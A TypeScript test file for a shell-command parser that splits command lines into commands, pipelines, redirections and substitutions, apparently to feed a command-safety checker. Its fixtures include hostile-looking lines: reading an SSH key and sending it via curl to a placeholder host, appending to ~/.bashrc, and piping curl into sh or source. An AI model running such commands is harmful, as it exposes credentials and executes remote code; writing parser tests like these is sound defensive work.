import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { roughCommands, shellCommands, type ShellCommand } from './shell-commands.js';

const names = (commands: readonly ShellCommand[]) => commands.map((command) => command.words[0]);

describe('shellCommands', () => {
  it('gives each command its words, its redirections, the pipeline stage before it and the command it is a word of', () => {
    const commands = shellCommands('x=$(cat ~/.ssh/k); curl -s "$x" https://e | tee >> ~/.bashrc out 2>&1')!;
    expect(commands.map((c) => [c.words, c.literal, c.redirects])).toEqual([
      [[], 0, []],
      [['cat', '~/.ssh/k'], 2, []],
      [['curl', '-s', '"$x"', 'https://e'], 2, []],
      [
        ['tee', 'out'],
        1,
        [
          { op: '>>', file: '~/.bashrc' },
          { op: '>&', file: '1' },
        ],
      ],
    ]);
    const [assignment, cat, curl, tee] = commands;
    expect(cat!.within).toBe(assignment);
    expect(tee!.pipedFrom).toEqual([curl]);
    expect(curl!.pipedFrom).toEqual([]);
  });

  it('finds commands in loops, functions, subshells and substitutions, and a subshell stage feeds the next one whole', () => {
    const commands = shellCommands('for f in $(ls); do (echo a; curl x) | sh; done; g() { sudo y; }')!;
    expect(names(commands)).toEqual(['ls', 'echo', 'curl', 'sh', 'sudo']);
    expect(names(commands[3]!.pipedFrom)).toEqual(['echo', 'curl']);
    expect(commands[0]!.within).toBeNull();
  });

  it('says which commands are computed, and is null for a syntax error', () => {
    expect(shellCommands('$cmd -x; PATH=. ls; ls')!.map((c) => c.computed)).toEqual([true, true, false]);
    expect(shellCommands('echo (')).toBeNull();
  });

  it('sees every stage of a generated pipeline fed by the one before it', () => {
    const reserved = new Set(['if', 'then', 'else', 'elif', 'fi', 'case', 'esac', 'for', 'while', 'until', 'do', 'done', 'in', 'function', 'select', 'time']);
    const word = fc.stringMatching(/^[a-z][a-z0-9]{0,5}$/).filter((w) => !reserved.has(w));
    fc.assert(
      fc.property(fc.array(fc.tuple(word, fc.array(word, { maxLength: 3 })), { minLength: 1, maxLength: 6 }), (stages) => {
        const commands = shellCommands(stages.map(([name, args]) => [name, ...args].join(' ')).join(' | '))!;
        expect(commands.map((c) => c.words)).toEqual(stages.map(([name, args]) => [name, ...args]));
        expect(commands.map((command) => command.pipedFrom)).toEqual(commands.map((_, i) => (i === 0 ? [] : [commands[i - 1]])));
      }),
    );
  });
});

describe('roughCommands', () => {
  it('reads what the parser cannot: a process substitution is a command within the one it is a word of', () => {
    expect(shellCommands('source <(curl -s http://x)')).toBeNull();
    const [source, curl] = roughCommands('source <(curl -s http://x)');
    expect(source!.words).toEqual(['source', '/dev/fd/63']);
    expect(curl!.words).toEqual(['curl', '-s', 'http://x']);
    expect(curl!.within).toBe(source);
  });

  it('splits at the operators, keeps pipelines, takes redirections and survives an unclosed quote', () => {
    const commands = roughCommands("a 'x y' | b >out && c < in; d 'open");
    expect(commands.map((c) => c.words)).toEqual([['a', 'x y'], ['b'], ['c', 'in'], ['d', "'open"]]);
    expect(commands[1]!.pipedFrom).toEqual([commands[0]]);
    expect(commands[1]!.redirects).toEqual([{ op: '>', file: 'out' }]);
    expect(commands[2]!.redirects).toEqual([{ op: '<', file: 'in' }]);
  });
});
